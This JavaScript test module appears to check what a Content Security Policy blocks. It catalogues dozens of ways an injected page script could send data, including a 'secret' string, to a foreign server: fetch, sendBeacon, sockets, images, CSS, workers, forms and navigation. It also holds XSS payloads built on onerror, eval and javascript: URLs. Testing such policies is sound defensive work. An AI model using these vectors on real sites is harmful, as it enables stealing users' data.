// Ways in which a script that got into the page could send something away. Each runs in the page, with the address of
// a foreign server of its own; `ran()` says that text became script.

const add = (tag, properties, parent = "body") => {
  const element = document.createElement(tag);
  Object.assign(element, properties);
  document[parent].append(element);
  return element;
};

/** What a policy can stop. */
export const STOPPED = {
  "fetch": (to) => fetch(to),
  "fetch without cors": (to) => fetch(to, { mode: "no-cors" }),
  "fetch that outlives the page": (to) => fetch(to, { method: "POST", body: "secret", keepalive: true, mode: "no-cors" }),
  "fetchLater": (to) => fetchLater(to, { activateAfter: 0 }),
  "XMLHttpRequest": (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to);
    request.send();
  },
  "sendBeacon": (to) => navigator.sendBeacon(to, "secret"),
  "WebSocket": (to) => new WebSocket(to.replace("http", "ws")),
  "EventSource": (to) => new EventSource(to),
  "WebTransport": (to) => new WebTransport(to.replace("http:", "https:")),
  "img": (to) => add("img", { src: to }),
  "img srcset": (to) => add("img", { srcset: `${to} 1x` }),
  "new Image": (to) => { new Image().src = to; },
  "picture": (to) => {
    const picture = document.createElement("picture");
    const source = document.createElement("source");
    source.srcset = to;
    picture.append(source, document.createElement("img"));
    document.body.append(picture);
  },
  "input image": (to) => add("input", { type: "image", src: to }),
  "video": (to) => add("video", { src: to, preload: "auto" }),
  "poster": (to) => add("video", { poster: to }),
  "audio": (to) => add("audio", { src: to, preload: "auto" }),
  "new Audio": (to) => new Audio(to).load(),
  "track": (to) => {
    const video = add("video", {});
    const track = document.createElement("track");
    Object.assign(track, { src: to, default: true, kind: "captions" });
    video.append(track);
    track.track.mode = "showing";
  },
  "script": (to) => add("script", { src: to }),
  "module": (to) => add("script", { type: "module", src: to }),
  "import()": (to) => import(to),
  "inline script": () => add("script", { text: "ran()" }),
  "script data:": () => add("script", { src: "data:text/javascript,ran()" }),
  "script blob:": () => add("script", { src: URL.createObjectURL(new Blob(["ran()"], { type: "text/javascript" })) }),
  "module blob:": () => import(URL.createObjectURL(new Blob(["ran()"], { type: "text/javascript" }))),
  "eval": () => (0, eval)("ran()"),
  "Function": () => new Function("ran()")(),
  "setTimeout of a text": () => setTimeout("ran()", 0),
  "event attribute": () => {
    const element = add("b", {});
    element.setAttribute("onclick", "ran()");
    element.click();
  },
  "innerHTML": () => { add("div", {}).innerHTML = "<img src=x: onerror=ran()>"; },
  "outerHTML": () => { add("div", {}).outerHTML = "<img src=x: onerror=ran()>"; },
  "insertAdjacentHTML": () => document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror=ran()>"),
  "createContextualFragment": () => document.body.append(
    document.createRange().createContextualFragment("<script>ran()</script>")),
  "DOMParser": () => document.body.append(
    document.adoptNode(new DOMParser().parseFromString("<img src=x: onerror=ran()>", "text/html").body.firstChild)),
  "setHTMLUnsafe": () => add("div", {}).setHTMLUnsafe("<img src=x: onerror=ran()>"),
  "javascript: link": () => add("a", { href: "javascript:ran()" }).click(),
  "javascript: frame": () => add("iframe", { src: "javascript:parent.ran()" }),
  "worker": (to) => new Worker(to),
  "worker blob:": (to) => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to)})`]))),
  "worker data:": (to) => new Worker(`data:text/javascript,fetch(${JSON.stringify(to)})`),
  "shared worker": (to) => new SharedWorker(to),
  "service worker": (to) => navigator.serviceWorker.register(to),
  "audio worklet": (to) => new OfflineAudioContext(1, 1, 44_100).audioWorklet.addModule(to),
  "paint worklet": (to) => CSS.paintWorklet.addModule(to),
  "WebAssembly from elsewhere": (to) => WebAssembly.compileStreaming(fetch(to)),
  "style sheet": (to) => add("link", { rel: "stylesheet", href: to }, "head"),
  "preload script": (to) => add("link", { rel: "preload", as: "script", href: to }, "head"),
  "preload style": (to) => add("link", { rel: "preload", as: "style", href: to }, "head"),
  "preload image": (to) => add("link", { rel: "preload", as: "image", href: to }, "head"),
  "preload font": (to) => add("link", { rel: "preload", as: "font", crossOrigin: "", href: to }, "head"),
  "preload fetch": (to) => add("link", { rel: "preload", as: "fetch", crossOrigin: "", href: to }, "head"),
  "modulepreload": (to) => add("link", { rel: "modulepreload", href: to }, "head"),
  "prefetch": (to) => add("link", { rel: "prefetch", href: to }, "head"),
  "icon": (to) => add("link", { rel: "icon", href: to }, "head"),
  "manifest": (to) => add("link", { rel: "manifest", href: to }, "head"),
  "style element": (to) => add("style", { textContent: `body{background:url(${to})}` }, "head"),
  "style attribute": (to) => add("b", { textContent: "x" }).setAttribute("style", `background:url(${to})`),
  "css of an element": (to) => { add("b", { textContent: "x" }).style.background = `url(${to})`; },
  "css cursor and list": (to) => { add("li", { textContent: "x" }).style.listStyleImage = `url(${to})`; },
  "css content": (to) => { add("b", { textContent: "x" }).style.content = `url(${to})`; },
  "constructed style sheet": (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body{border-image:url(${to}) 1}`);
    document.adoptedStyleSheets = [sheet];
  },
  "font": (to) => new FontFace("x", `url(${to})`).load(),
  "frame": (to) => add("iframe", { src: to }),
  "frame srcdoc": (to) => add("iframe", { srcdoc: `<img src="${to}">` }),
  "frame data:": (to) => add("iframe", { src: `data:text/html,<img src="${to}">` }),
  "frame blob:": (to) => add("iframe", { src: URL.createObjectURL(new Blob([`<img src="${to}">`], { type: "text/html" })) }),
  "object": (to) => add("object", { data: to }),
  "embed": (to) => add("embed", { src: to }),
  "svg image": (to) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", to);
    svg.append(image);
    document.body.append(svg);
  },
  "svg feImage": (to) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const filter = document.createElementNS("http://www.w3.org/2000/svg", "filter");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "feImage");
    const shape = document.createElementNS("http://www.w3.org/2000/svg", "rect");
    filter.id = "feimage";
    image.setAttribute("href", to);
    for (const [name, value] of [["width", 9], ["height", 9], ["filter", "url(#feimage)"]]) shape.setAttribute(name, value);
    filter.append(image);
    svg.append(filter, shape);
    document.body.append(svg);
  },
  "form": (to) => {
    const target = add("iframe", { name: "f1" });
    add("form", { action: to, target: target.name }).submit();
  },
  "base": (to) => {
    add("base", { href: to }, "head");
    add("img", { src: "relative" });
    document.querySelector("base").remove();
  },
  "ping": (to) => {
    const link = add("a", { href: "#", ping: to });
    link.click();
  },
};

/** What no policy stops, one page for each: these are in docs/safety.md. */
export const NOT_STOPPED = {
  "top navigation": (to) => { location.href = to; },
  "link": (to) => add("a", { href: to }).click(),
  "window.open": (to) => { open(to); },
  "meta refresh": (to) => add("meta", { httpEquiv: "refresh", content: `0;url=${to}` }, "head"),
};

/** As text, to run in a page. Later, as a script of the page: what a driver runs at once may use `eval`. */
export const inPage = (vector, to) => `void setTimeout(() => {
  globalThis.ran ??= () => { globalThis.hasRun = true; };
  const add = ${add};
  try {
    const result = (${vector})(${JSON.stringify(to)});
    result?.catch?.(() => null);
    for (const name of ["ready", "closed"]) result?.[name]?.catch?.(() => null);
  } catch {}
}, 0)`;
